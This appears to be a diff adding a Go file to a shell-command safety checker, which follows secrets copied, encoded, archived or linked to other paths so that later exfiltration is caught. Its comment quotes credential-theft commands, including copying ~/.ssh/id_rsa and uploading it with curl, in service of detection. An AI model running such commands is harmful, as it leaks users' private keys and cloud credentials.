@@ -1,0 +1,113 @@
+package patterns
+
+import (
+	"path"
+	"strings"
+)
+
+// A secret copied to another name is still the secret: `cp ~/.ssh/id_rsa
+// /tmp/k && curl -F f=@/tmp/k URL` sends the key. A part that reads a
+// secrets file (an operand, or a < of one) and writes a path (a
+// redirection, a copy's or a link's destination, an archive, an output
+// option: the writes of does.go) makes that path a secret for the line's
+// other parts, and so on through copies of copies (up to four steps):
+// base64 ~/.ssh/id_rsa > /tmp/a, tar czf /tmp/s.tgz ~/.ssh, ln -s
+// ~/.aws/credentials c. Only paths certainly known count.
+
+// maxLaunderSteps bounds the copies of copies followed.
+const maxLaunderSteps = 4
+
+// launderedSecret reports whether w certainly names a path that a part of
+// the command being evaluated wrote from a secret.
+func launderedSecret(w Word, ctx *Context) bool {
+	cmd := ctx.evalCommand()
+	if cmd == nil || len(cmd.Parts) < 2 || len(cmd.Parts) > maxKillSearch {
+		return false
+	}
+	v, ok := certainPath(w, ctx)
+	if !ok {
+		return false
+	}
+	return launderedPaths(cmd, ctx)[v]
+}
+
+// certainPath is the absolute path w certainly names.
+func certainPath(w Word, ctx *Context) (string, bool) {
+	p := readPath(&w, ctx)
+	v, ok := p.shape.certain()
+	if !ok || p.any || !strings.HasPrefix(v, "/") {
+		return "", false
+	}
+	return path.Clean(v), true
+}
+
+// launderedPaths returns the paths the command's parts wrote from a
+// secret, remembered for the evaluation.
+func launderedPaths(cmd *Command, ctx *Context) map[string]bool {
+	if ctx.memo != nil && ctx.memo.laundered != nil {
+		return ctx.memo.laundered
+	}
+	set := map[string]bool{}
+	reads := func(w Word) bool {
+		if judgeSecretDirect(w, ctx).Certainly {
+			return true
+		}
+		if v, ok := certainPath(w, ctx); ok && set[v] {
+			return true
+		}
+		return false
+	}
+	for step := 0; step < maxLaunderSteps; step++ {
+		grew := false
+		for _, p := range cmd.Parts {
+			if p == nil || !partReadsAny(p, reads) {
+				continue
+			}
+			for _, t := range partWrittenWords(p) {
+				if v, ok := certainPath(t, ctx); ok && !set[v] {
+					set[v], grew = true, true
+				}
+			}
+		}
+		if !grew {
+			break
+		}
+	}
+	if ctx.memo != nil {
+		ctx.memo.laundered = set
+	}
+	return set
+}
+
+// partReadsAny reports whether one of the words p reads (its arguments,
+// the targets of its reading redirections) is one reads accepts.
+func partReadsAny(p *Part, reads func(Word) bool) bool {
+	for _, a := range p.Args() {
+		for _, f := range sentFiles(a) {
+			if reads(f) {
+				return true
+			}
+		}
+	}
+	for i := range p.Redirs {
+		if r := &p.Redirs[i]; r.Reads && !r.Writes && reads(r.Target) {
+			return true
+		}
+	}
+	return false
+}
+
+// partWrittenWords are the paths p writes: its writing redirections and
+// what its program writes.
+func partWrittenWords(p *Part) []Word {
+	var out []Word
+	for i := range p.Redirs {
+		if r := &p.Redirs[i]; r.Writes && r.Body == nil {
+			out = append(out, r.Target)
+		}
+	}
+	if d := partDoes(p); d != nil {
+		out = append(out, d.writes...)
+	}
+	return out
+}
